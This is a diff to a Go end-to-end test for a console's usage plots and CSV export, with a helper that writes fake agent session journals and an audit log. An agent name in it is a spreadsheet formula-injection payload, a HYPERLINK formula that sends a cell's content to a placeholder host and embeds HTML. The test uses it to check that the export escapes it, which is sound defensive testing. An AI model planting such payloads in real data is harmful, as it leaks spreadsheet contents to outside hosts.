@@ -3,6 +3,8 @@ package console_test
 import (
 	"encoding/csv"
 	"fmt"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -37,7 +39,7 @@ func TestUsageIsPlottedByDayAndAgentAndSaved(t *testing.T) {
 	p := e2e.NewPlace(t)
 	yesterday := time.Now().AddDate(0, 0, -1)
 	noon := time.Date(yesterday.Year(), yesterday.Month(), yesterday.Day(), 12, 0, 0, 0, time.Local)
-	p.Recorded(t, noon)
+	recorded(t, p, noon)
 	g := e2e.NewConsole(t, p)
 	tab := openAsOperator(g, b, "#/usage")
 	tab.shows("Sessions that are open")
@@ -47,7 +49,7 @@ func TestUsageIsPlottedByDayAndAgentAndSaved(t *testing.T) {
 			t.Errorf("no plot is called %q", title)
 		}
 	}
-	if words := eval[string](tab, `document.querySelector(".plot [role=img]").getAttribute("aria-label")`); !strings.Contains(words, "claude 3K") || !strings.Contains(words, e2e.Formula+" 6K") {
+	if words := eval[string](tab, `document.querySelector(".plot [role=img]").getAttribute("aria-label")`); !strings.Contains(words, "claude 3K") || !strings.Contains(words, formula+" 6K") {
 		t.Errorf("the plot of tokens says %q", words)
 	}
 	if n := eval[int](tab, `document.querySelectorAll("table.days tbody tr").length`); n != 6 {
@@ -71,7 +73,7 @@ func TestUsageIsPlottedByDayAndAgentAndSaved(t *testing.T) {
 		if column(row, "agent") == "claude" {
 			want["tokens"], want["policy_times"], want["allowed"] = fmt.Sprint(1000+ago), "", "0"
 		} else {
-			want["agent"], want["tokens"], want["policy_sum_micros"] = "'"+e2e.Formula, fmt.Sprint(2000+ago), "2000"
+			want["agent"], want["tokens"], want["policy_sum_micros"] = "'"+formula, fmt.Sprint(2000+ago), "2000"
 			want["allowed"], want["asked"], want["denied"] = []string{"1", "0", "0"}[ago], []string{"0", "1", "0"}[ago], []string{"0", "0", "1"}[ago]
 			want["people_sum_micros"] = []string{"", "3000000", ""}[ago]
 		}
@@ -92,9 +94,9 @@ func TestUsageOnAPhone(t *testing.T) {
 	t.Parallel()
 	b := newBrowser(t)
 	p := e2e.NewPlace(t)
-	p.Recorded(t, time.Now().AddDate(0, 0, -1))
+	recorded(t, p, time.Now().AddDate(0, 0, -1))
 	g := e2e.NewConsole(t, p)
-	tab := b.open(g.Console()+"#/usage", phoneWidth, phoneHeight)
+	tab := b.open(console(g)+"#/usage", phoneWidth, phoneHeight)
 	tab.signIn(g.Token("viewer"))
 	tab.until("five plots are drawn", drawn+` === 5`)
 	if wide := eval[bool](tab, "document.documentElement.scrollWidth > innerWidth"); wide {
@@ -116,4 +118,43 @@ func TestUsageThatIsNotRecordedIsSaidSo(t *testing.T) {
 	tab.shows("Nothing is recorded of these days.")
 	tab.clean("usage that is not recorded")
 	g.Leave()
+}
+
+// formula is a name of an agent that a program for tables would take for one.
+const formula = `=HYPERLINK("http://x/?"&A1,"<b>click</b>")`
+
+// recorded puts into a place what supervisors recorded of two agents on three days, the last of them a day.
+func recorded(t *testing.T, p *e2e.Place, last time.Time) {
+	t.Helper()
+	state := filepath.Join(p.Home, ".local", "state", "acphost")
+	var audit strings.Builder
+	for i, agent := range []string{"claude", formula} {
+		for ago := range 3 {
+			at := last.AddDate(0, 0, -ago)
+			stamp := func(after time.Duration) string { return at.Add(after).UTC().Format("2006-01-02T15:04:05.000000000Z") }
+			session := fmt.Sprintf("old-%d-%d", i, ago)
+			lines := fmt.Sprintf(`{"t":%q,"journal":{"version":1,"session":%q,"agent":%q,"cwd":"/w","acphost":"v1","instance":"x","pid":1,"content":true}}
+{"t":%q,"n":1,"dir":"front-to-agent","method":"session/new","frame":{"jsonrpc":"2.0","id":1,"method":"session/new","params":{"cwd":"/w","mcpServers":[]}}}
+{"t":%q,"n":2,"dir":"agent-to-front","answers":"session/new","frame":{"jsonrpc":"2.0","id":1,"result":{"sessionId":%q}}}
+{"t":%q,"n":3,"dir":"front-to-agent","method":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"method":"session/prompt","params":{"sessionId":%q,"prompt":[{"type":"text","text":"go"}]}}}
+{"t":%q,"n":4,"dir":"agent-to-front","method":"session/update","frame":{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":%q,"update":{"sessionUpdate":"usage_update","used":5,"size":9,"cost":{"amount":%d.25,"currency":"USD"}}}}}
+{"t":%q,"n":5,"dir":"agent-to-front","answers":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"result":{"stopReason":"end_turn","usage":{"totalTokens":%d,"inputTokens":40,"outputTokens":2}}}}
+`,
+				stamp(0), session, agent, stamp(0), stamp(0), session, stamp(0), session, stamp(time.Second), session, ago+1, stamp(time.Minute), 1000*(i+1)+ago)
+			file := filepath.Join(state, "journal", at.UTC().Format(time.DateOnly), "s-"+session+"-0123456789ab.ndjson")
+			if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(file, []byte(lines), 0o600); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	for i, verdict := range []string{"allow", "ask", "deny"} {
+		fmt.Fprintf(&audit, `{"time":%q,"id":"%d","supervisor":1,"session_id":"old","agent":%q,"door":"call","verdict":%q,"latency_micros":2000,"answered_by":"policy","outcome":"allowed","asked_millis":%d}`+"\n",
+			last.AddDate(0, 0, -i).UTC().Format(time.RFC3339Nano), i, formula, verdict, 3000*(i%2))
+	}
+	if err := os.WriteFile(filepath.Join(state, "audit.jsonl"), []byte(audit.String()), 0o600); err != nil {
+		t.Fatal(err)
+	}
 }
